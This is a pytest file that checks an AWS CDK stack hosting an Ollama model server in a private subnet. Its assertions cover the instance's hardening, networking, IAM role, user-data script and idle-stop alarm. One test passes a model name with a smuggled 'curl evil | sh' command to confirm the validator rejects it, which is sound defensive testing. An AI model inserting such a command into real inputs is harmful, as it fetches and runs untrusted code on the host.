"""The Ollama stack's template: one synthesis (with cdk-nag on) shared by every test."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import aws_cdk
import pytest
from aws_cdk.assertions import Match, Template

from infra import nag
from infra.config import DeployConfig
from infra.stacks import ollama as ollama_module
from infra.stacks.ollama import OllamaStack, user_data_script
from tests.infra.conftest import CDK_CONTEXT

MODELS = ["llama3.2", "qwen3:8b"]
CONFIG = DeployConfig.model_validate(
    {"ollama": {"enabled": True, "models": MODELS, "context_window": 8192, "instance_type": "g6.2xlarge"}}
)


@pytest.fixture(scope="module")
def synthesized() -> tuple[OllamaStack, Template, dict[str, Any]]:
    app = aws_cdk.App(context=CDK_CONTEXT)
    nag.enable(app)
    # an account and region: the VPC must still do no availability-zone lookup
    env = aws_cdk.Environment(account="123456789012", region="us-east-1")
    stack = OllamaStack(app, "Ollama", config=CONFIG, env=env)
    assembly = app.synth()  # raises on any unacknowledged cdk-nag finding
    manifest = json.loads((Path(assembly.directory) / "manifest.json").read_text())
    return stack, Template.from_stack(stack), manifest


@pytest.fixture(scope="module")
def stack(synthesized: tuple[OllamaStack, Template, dict[str, Any]]) -> OllamaStack:
    return synthesized[0]


@pytest.fixture(scope="module")
def template(synthesized: tuple[OllamaStack, Template, dict[str, Any]]) -> Template:
    return synthesized[1]


def _one(template: Template, kind: str) -> dict[str, Any]:
    resources = template.find_resources(kind)
    assert len(resources) == 1, f"{kind}: {list(resources)}"
    return dict(next(iter(resources.values()))["Properties"])


def _user_data(template: Template) -> str:
    data = _one(template, "AWS::EC2::Instance")["UserData"]["Fn::Base64"]
    assert isinstance(data, str)
    return data


def test_no_context_lookup(synthesized: tuple[OllamaStack, Template, dict[str, Any]]) -> None:
    assert not synthesized[2].get("missing"), synthesized[2].get("missing")


def test_instance_type_from_config(template: Template) -> None:
    assert _one(template, "AWS::EC2::Instance")["InstanceType"] == "g6.2xlarge"


def test_ami_from_the_ssm_parameter_at_deploy_time(template: Template) -> None:
    parameters = template.find_parameters(
        "*", {"Type": "AWS::SSM::Parameter::Value<AWS::EC2::Image::Id>", "Default": CONFIG.ollama.ami_parameter}
    )
    assert len(parameters) == 1
    assert _one(template, "AWS::EC2::Instance")["ImageId"] == {"Ref": next(iter(parameters))}


def test_imdsv2_required(template: Template) -> None:
    template_props = _one(template, "AWS::EC2::LaunchTemplate")
    assert template_props["LaunchTemplateData"]["MetadataOptions"]["HttpTokens"] == "required"
    assert template_props["LaunchTemplateName"] != "InstanceLaunchTemplate"  # unique per stack


def test_encrypted_gp3_root_volume(template: Template) -> None:
    [mapping] = _one(template, "AWS::EC2::Instance")["BlockDeviceMappings"]
    assert mapping["DeviceName"] == ollama_module.ROOT_DEVICE
    assert mapping["Ebs"] == {
        "Encrypted": True,
        "VolumeType": "gp3",
        "VolumeSize": CONFIG.ollama.volume_gb,
        "DeleteOnTermination": True,
    }


def test_private_subnet_no_public_ip_no_key(template: Template) -> None:
    instance = _one(template, "AWS::EC2::Instance")
    assert "KeyName" not in instance
    [interface] = instance["NetworkInterfaces"]
    assert interface["AssociatePublicIpAddress"] is False
    subnet_id = interface["SubnetId"]["Ref"]
    subnet = template.to_json()["Resources"][subnet_id]["Properties"]
    assert subnet["MapPublicIpOnLaunch"] is False


def test_role_has_only_the_ssm_managed_policy(stack: OllamaStack, template: Template) -> None:
    role_id = stack.get_logical_id(stack.instance.role.node.default_child)  # type: ignore[arg-type]
    role = template.to_json()["Resources"][role_id]["Properties"]
    [policy] = role["ManagedPolicyArns"]
    assert "AmazonSSMManagedInstanceCore" in json.dumps(policy)
    assert "Policies" not in role
    attached = [p["Properties"]["Roles"] for p in template.find_resources("AWS::IAM::Policy").values()]
    assert {"Ref": role_id} not in [ref for roles in attached for ref in roles]  # no inline policy either


def test_instance_admits_only_the_client_group_on_the_port(stack: OllamaStack, template: Template) -> None:
    ingress = template.find_resources("AWS::EC2::SecurityGroupIngress")
    assert len(ingress) == 1
    [rule] = [r["Properties"] for r in ingress.values()]
    client_id = stack.get_logical_id(stack.client_security_group.node.default_child)  # type: ignore[arg-type]
    assert rule["SourceSecurityGroupId"] == {"Fn::GetAtt": [client_id, "GroupId"]}
    assert (rule["IpProtocol"], rule["FromPort"], rule["ToPort"]) == ("tcp", 11434, 11434)
    for group in template.find_resources("AWS::EC2::SecurityGroup").values():
        assert "SecurityGroupIngress" not in group["Properties"]
    instance_groups = _one(template, "AWS::EC2::Instance")["NetworkInterfaces"][0]["GroupSet"]
    assert instance_groups == [{"Fn::GetAtt": [rule["GroupId"]["Fn::GetAtt"][0], "GroupId"]}]


def test_user_data_pins_the_version_and_pulls_each_model(template: Template) -> None:
    data = _user_data(template)
    assert data.startswith("#!/bin/bash\n")
    assert f"OLLAMA_VERSION='{CONFIG.ollama.ollama_version}'" in data
    assert 'OLLAMA_VERSION="${OLLAMA_VERSION}" sh' in data
    assert f"OLLAMA_PULL='{' '.join(MODELS)}'" in data
    assert 'ollama pull "${model}"' in data
    assert "OLLAMA_CONTEXT='8192'" in data and "OLLAMA_CONTEXT_LENGTH=" in data
    assert "OLLAMA_HOST=0.0.0.0:${OLLAMA_PORT}" in data and "OLLAMA_PORT='11434'" in data


def test_user_data_rejects_what_is_not_a_model_or_version() -> None:
    with pytest.raises(ValueError, match="models"):
        user_data_script(DeployConfig.model_validate({"ollama": {"models": ["llama3.2; curl evil | sh"]}}))
    with pytest.raises(ValueError, match="version"):
        user_data_script(DeployConfig.model_validate({"ollama": {"ollama_version": "latest"}}))
    no_context = user_data_script(DeployConfig())
    assert "OLLAMA_CONTEXT=''" in no_context


def test_vpc_one_nat_two_azs_gateway_endpoints_flow_logs(template: Template) -> None:
    template.resource_count_is("AWS::EC2::NatGateway", 1)
    subnets = template.find_resources("AWS::EC2::Subnet")
    assert len(subnets) == 4  # public and private in two AZs
    endpoints = [r["Properties"] for r in template.find_resources("AWS::EC2::VPCEndpoint").values()]
    services = sorted(json.dumps(e["ServiceName"]) for e in endpoints)
    assert len(endpoints) == 2 and "dynamodb" in services[0] and "s3" in services[1]
    assert all(e.get("VpcEndpointType", "Gateway") == "Gateway" for e in endpoints)
    template.has_resource_properties("AWS::EC2::FlowLog", {"ResourceType": "VPC", "TrafficType": "ALL"})
    template.has_resource_properties("AWS::Logs::LogGroup", {"RetentionInDays": 30})


def test_stable_private_name(stack: OllamaStack, template: Template) -> None:
    assert stack.base_url == "http://ollama.privategpt-dev.internal:11434"
    template.has_resource_properties("AWS::Route53::HostedZone", {"Name": "privategpt-dev.internal."})
    instance_id = next(iter(template.find_resources("AWS::EC2::Instance")))
    template.has_resource_properties(
        "AWS::Route53::RecordSet",
        {
            "Name": "ollama.privategpt-dev.internal.",
            "Type": "A",
            "ResourceRecords": [{"Fn::GetAtt": [instance_id, "PrivateIp"]}],
        },
    )


def test_idle_alarm_stops_the_instance(template: Template) -> None:
    alarm = _one(template, "AWS::CloudWatch::Alarm")
    periods = CONFIG.ollama.idle_stop_minutes // ollama_module.IDLE_PERIOD_MINUTES
    instance_id = next(iter(template.find_resources("AWS::EC2::Instance")))
    assert alarm["MetricName"] == "CPUUtilization" and alarm["Namespace"] == "AWS/EC2"
    assert alarm["Dimensions"] == [{"Name": "InstanceId", "Value": {"Ref": instance_id}}]
    assert alarm["ComparisonOperator"] == "LessThanThreshold"
    assert alarm["Threshold"] == CONFIG.ollama.idle_cpu_percent
    assert alarm["EvaluationPeriods"] == alarm["DatapointsToAlarm"] == periods
    assert alarm["Period"] == ollama_module.IDLE_PERIOD_MINUTES * 60
    assert alarm["TreatMissingData"] == "notBreaching"
    assert ":automate:us-east-1:ec2:stop" in json.dumps(alarm["AlarmActions"])
    assert _one(template, "AWS::EC2::Instance")["Monitoring"] is True


def test_outputs(template: Template) -> None:
    template.has_output("OllamaBaseUrl", {"Value": "http://ollama.privategpt-dev.internal:11434"})
    template.has_output("OllamaInstanceId", {"Value": Match.any_value()})


def test_no_idle_alarm_when_the_stop_is_off() -> None:
    config = CONFIG.model_copy(update={"ollama": CONFIG.ollama.model_copy(update={"idle_stop_minutes": 0})})
    env = aws_cdk.Environment(account="123456789012", region="us-east-1")
    stack = OllamaStack(aws_cdk.App(context=CDK_CONTEXT), "NoIdle", config=config, env=env)
    assert not Template.from_stack(stack).find_resources("AWS::CloudWatch::Alarm")
